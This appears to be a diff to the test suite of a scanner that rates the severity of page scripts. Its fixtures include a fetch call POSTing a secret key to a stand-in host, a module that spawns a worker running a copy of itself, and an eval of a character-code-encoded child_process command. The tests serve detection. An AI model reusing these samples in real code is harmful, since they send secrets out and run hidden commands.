@@ -131,3 +131,25 @@ def test_a_key_that_a_page_sends_off_is_no_login() -> None:
     login = sign.format("fetch('https://a.example.invalid/', {method: 'POST', body: secretKey})")
     assert worst_script("key-sent", beacon) is Severity.HIGH
     assert worst_script("key-sent", login) is None
+
+
+SELF = """
+module.exports = (function own() {{
+  var made = {{ SEPARATOR: String.fromCharCode({code}) }};
+  if (typeof Worker !== 'undefined') {{
+    var text = ['(', own.toString(), ')();'];
+    new Worker(URL.createObjectURL(new Blob(text, {{ type: 'text/javascript' }})));
+  }}
+  return made;
+}})();
+"""
+
+
+@pytest.mark.parametrize("code", ["30", "65279"])
+def test_a_sign_between_values_hides_nothing(code: str) -> None:
+    assert worst_script("hidden-layer", SELF.format(code=code)) is None
+
+
+def test_a_program_that_is_spelt_by_numbers_does() -> None:
+    codes = ", ".join(str(ord(one)) for one in "require('child_process').exec('id')")
+    assert worst_script("hidden-layer", f"eval(String.fromCharCode({codes}));") is Severity.CRITICAL
